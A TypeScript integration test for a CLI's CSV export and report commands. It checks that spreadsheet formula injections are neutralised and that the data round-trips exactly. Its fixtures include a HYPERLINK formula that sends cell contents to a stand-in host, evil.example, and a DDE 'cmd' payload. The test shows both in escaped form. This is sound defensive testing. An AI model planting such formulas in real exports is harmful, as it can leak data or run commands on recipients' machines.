// `npm run export -- --format csv` and `npm run report -- --csv` as child processes (issue #27
// item 8, #28 item 5): every file they write passes the one CSV assertion (a byte-order mark
// unless --no-bom, no cell a spreadsheet would run), and the export imports back into an empty
// database exactly: formula triggers, quotes, newlines, apostrophes, "Ростех", emoji and
// negative numbers all come back as they were.
import { spawn } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { createPrisma, type DbHandle } from '../../src/db/client';
import { clientSql } from '../../src/db/sql';
import { exportRecords } from '../../src/ingest/export';
import { importWithPool } from '../../src/ingest/importer';
import { textInput } from '../../src/ingest/read';
import { createTestDatabase, type TestDatabase } from '../support/database';
import { expectSafeCsv, FORMULA_CELLS } from '../support/csv';

const ROOT = path.resolve(__dirname, '../..');

const HOSTILE = [...FORMULA_CELLS, '＝1+1', "'=already escaped", "'tis an apostrophe", 'He said "yes", then left', 'two\nlines', 'Ростех', '😀👍🏽 emoji'];

/** One record of every kind, each text field holding a hostile value, numbers negative where they can be. */
function records(): Record<string, unknown>[] {
  const h = (i: number) => HOSTILE[i % HOSTILE.length];
  // Every record is in dataset "rt", and names the others by their external ids there.
  const ref = (externalId: string) => ({ dataset: 'rt', externalId });
  const record = (kind: string, externalId: string, fields: Record<string, unknown>) => ({ kind, ...ref(externalId), ...fields });
  const out: Record<string, unknown>[] = [];
  HOSTILE.forEach((name, i) =>
    out.push(
      record('actor', `a${i}`, {
        name: `${name} #${i}`,
        actorKind: 'ORGANIZATION',
        description: h(i + 1),
        aliases: [`${h(i + 2)} alias ${i}`],
      }),
    ),
  );
  HOSTILE.forEach((title, i) => out.push(record('source', `s${i}`, { publisher: h(i + 3), title, url: 'https://example.org/a?b=1' })));
  HOSTILE.forEach((title, i) => {
    out.push(
      record('event', `e${i}`, {
        type: 'MEETING',
        title,
        description: h(i + 4),
        date: { start: '2023-09-01', end: '2023-09-30', precision: 'MONTH', text: h(i + 5) },
        location: { name: h(i + 6), latitude: -33.5 - i, longitude: -70.25 },
        confidence: 'REPORTED',
        participants: [{ actor: ref(`a${i}`), role: 'INITIATOR' }],
      }),
    );
    out.push(
      record('shipment', `sh${i}`, {
        supplier: ref(`a${i}`),
        recipient: ref(`a${(i + 1) % HOSTILE.length}`),
        category: 'FOOD',
        description: h(i + 7),
        quantity: 1000 + i,
        unit: h(i + 8).slice(0, 50),
        delivery: '2023-10',
        status: 'REPORTED',
        route: h(i + 9),
        confidence: 'REPORTED',
        events: [ref(`e${i}`)],
      }),
    );
    out.push(
      record('citation', `c${i}`, {
        source: ref(`s${i}`),
        event: ref(`e${i}`),
        excerpt: h(i + 10),
        credibility: 2,
      }),
    );
    out.push(
      record('affiliation', `f${i}`, {
        actor: ref(`a${i}`),
        target: ref(`a${(i + 2) % HOSTILE.length}`),
        role: 'MEMBER_OF',
        title: h(i + 11),
      }),
    );
    out.push(
      record('claim', `k${i}`, {
        claimant: ref(`a${i}`),
        event: ref(`e${i}`),
        field: 'description',
        value: h(i),
        likelihood: 'LIKELY',
        accepted: i % 2 === 0,
      }),
    );
  });
  return out;
}

interface Run {
  code: number | null;
  stdout: Buffer;
  stderr: string;
}

function cli(script: string, args: string[], databaseUrl: string): Promise<Run> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, ['--import', 'tsx', path.join(ROOT, 'src/cli', script), ...args], {
      cwd: ROOT,
      env: { ...process.env, DATABASE_URL: databaseUrl, TEST_DATABASE_URL: '', LOG_LEVEL: 'silent' },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    const stdout: Buffer[] = [];
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => stdout.push(d));
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    child.on('error', reject);
    child.on('close', (code) => resolve({ code, stdout: Buffer.concat(stdout), stderr }));
  });
}

/** Every record of a database as its NDJSON export, in a stable order. */
async function everything(handle: DbHandle): Promise<string[]> {
  const client = await handle.pool.connect();
  try {
    const sql = await clientSql(client);
    const out: string[] = [];
    for await (const { record } of exportRecords(sql)) out.push(JSON.stringify(record));
    return out.sort();
  } finally {
    client.release();
  }
}

let source: TestDatabase;
let target: TestDatabase;
let dir: string;
beforeAll(async () => {
  [source, target] = await Promise.all([createTestDatabase(), createTestDatabase()]);
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'csv-roundtrip-'));
  const handle = createPrisma(source.url, 1);
  try {
    const report = await importWithPool(handle.pool, [
      textInput(
        'hostile.ndjson',
        records()
          .map((r) => JSON.stringify(r))
          .join('\n'),
      ),
    ]);
    expect(report.errors).toEqual([]);
  } finally {
    await handle.close();
  }
}, 180_000);
afterAll(async () => {
  await Promise.all([source?.drop(), target?.drop()]);
  fs.rmSync(dir, { recursive: true, force: true });
});

it('the CSV export is safe to open, and imports back into an empty database exactly', async () => {
  const out = path.join(dir, 'csv');
  const exported = await cli('export.ts', ['--format', 'csv', '--out', out], source.url);
  expect(exported.stderr).toMatch(/exported \d+ records/);
  expect(exported.code).toBe(0);
  const files = fs.readdirSync(out).sort();
  expect(files).toEqual(['actors.csv', 'affiliations.csv', 'citations.csv', 'claims.csv', 'events.csv', 'shipments.csv', 'sources.csv']);
  for (const file of files) expectSafeCsv(fs.readFileSync(path.join(out, file)));
  // the triggers are there, neutralised, not dropped
  expect(fs.readFileSync(path.join(out, 'actors.csv'), 'utf8')).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"") #0"`);
  expect(fs.readFileSync(path.join(out, 'events.csv'), 'utf8')).toMatch(/,-33\.5,-70\.25,/);

  const imported = await cli('import.ts', ['--quiet', ...files.map((f) => path.join(out, f))], target.url);
  expect(imported.stderr).toBe('');
  expect(imported.code).toBe(0);
  const [a, b] = [createPrisma(source.url, 1), createPrisma(target.url, 1)];
  try {
    const before = await everything(a);
    expect(before.length).toBe(records().length);
    expect(await everything(b)).toEqual(before);
  } finally {
    await Promise.all([a.close(), b.close()]);
  }
}, 240_000);

it('--no-bom leaves the byte-order mark out, for programs; the report CLI writes the same policy', async () => {
  const actors = await cli('export.ts', ['--format', 'csv', '--kind', 'actor', '--no-bom'], source.url);
  expect(actors.code).toBe(0);
  expect(expectSafeCsv(actors.stdout, { bom: false }).length).toBe(HOSTILE.length + 1);

  const report = await cli('report.ts', ['--from', '2023-01-01', '--to', '2023-12-31', '--group-by', 'SUPPLIER,RECIPIENT', '--csv'], source.url);
  expect(report.code).toBe(0);
  const rows = expectSafeCsv(report.stdout);
  expect(rows.flat()).toContain('\'=HYPERLINK("http://evil.example/?"&A1,"click") #0');
  const events = await cli('report.ts', ['--events', '--from', '2023-01-01', '--to', '2023-12-31', '--group-by', 'ACTOR', '--csv', '--no-bom'], source.url);
  expect(events.code).toBe(0);
  expect(expectSafeCsv(events.stdout, { bom: false }).flat()).toContain("'+cmd|' /C calc'!A0 #1");
}, 240_000);
